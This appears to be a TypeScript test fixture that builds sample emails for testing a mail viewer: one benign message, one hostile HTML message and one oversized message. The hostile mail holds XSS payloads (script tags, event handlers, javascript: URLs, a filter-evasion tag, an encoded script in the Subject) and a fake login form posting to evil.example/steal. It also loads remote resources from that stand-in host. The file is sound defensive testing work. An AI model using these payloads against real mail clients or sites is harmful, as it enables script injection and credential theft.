/** Mails for the page to show: an honest one, and one that tries everything. */
const header = (fields: readonly string[], ...body: readonly string[]): string =>
  [...fields, 'MIME-Version: 1.0', ...body].join('\r\n')

export const hello = header(
  ['From: Ada Lovelace <ada@example.net>', 'To: bob@example.org', 'Subject: Notes on the engine'],
  'Content-Type: multipart/mixed; boundary=m',
  '',
  '--m',
  'Content-Type: multipart/alternative; boundary=a',
  '',
  '--a',
  'Content-Type: text/plain; charset=utf-8',
  '',
  'Dear Bob, the engine weaves patterns.',
  '--a',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><body><h1>Dear Bob</h1><p>The engine weaves <b>patterns</b>.</p></body></html>',
  '--a--',
  '--m',
  'Content-Type: text/csv; name="table.csv"',
  'Content-Disposition: attachment; filename="table.csv"',
  '',
  'a,b',
  '--m--',
)

/** A picture of one pixel. */
const pixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='

/** Each thing that runs says so in `window.hacked`; each that is fetched asks a host that is not there. */
const evil = [
  '<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<base href="http://evil.example/" target="_top"><link rel="stylesheet" href="http://evil.example/x.css">',
  '<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="http://evil.example">',
  '<style>@import url(http://evil.example/i.css); body { background: url(http://evil.example/b.png) }</style></head>',
  '<body onload="top.hacked=1"><script>top.hacked=2;top.location="http://evil.example/top"</script>',
  '<scr<script>ipt>top.hacked=3</script><svg onload="top.hacked=4"><script>top.hacked=5</script></svg>',
  '<img src="http://evil.example/track.gif" onerror="top.hacked=6"><img id="own" src="cid:own@example.net">',
  '<iframe src="javascript:top.hacked=7"></iframe><object data="http://evil.example/o"></object>',
  '<form action="http://evil.example/steal" method="post"><input name="p"><button id="send">Log in</button></form>',
  '<a id="script" href="javascript:top.hacked=8">click</a><video src="http://evil.example/v" autoplay></video>',
  '<p id="there">It is there.</p></body></html>',
]

export const hostile = header(
  ['From: "Eve" <eve@evil.example>', 'To: bob@example.org'],
  'Subject: =?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=',
  'Content-Type: multipart/related; boundary=r',
  '',
  '--r',
  'Content-Type: text/html; charset=utf-8',
  '',
  ...evil,
  '--r',
  'Content-Type: image/png',
  'Content-ID: <own@example.net>',
  'Content-Transfer-Encoding: base64',
  '',
  pixel,
  '--r--',
)

/** More parts than anybody looks at, and header fields as long as they may be. */
export const sprawling = header(
  [
    'From: eve@evil.example',
    'Subject: Ten thousand parts',
    ...Array.from({ length: 300 }, (_, at) => `X-Long-${at}: ${'x'.repeat(900)}`),
    'Content-Type: multipart/mixed; boundary=p',
  ],
  '',
  ...Array.from({ length: 10_000 }, (_, at) => `--p\r\nContent-Type: text/x-part\r\n\r\npart ${at}`),
  '--p--',
)
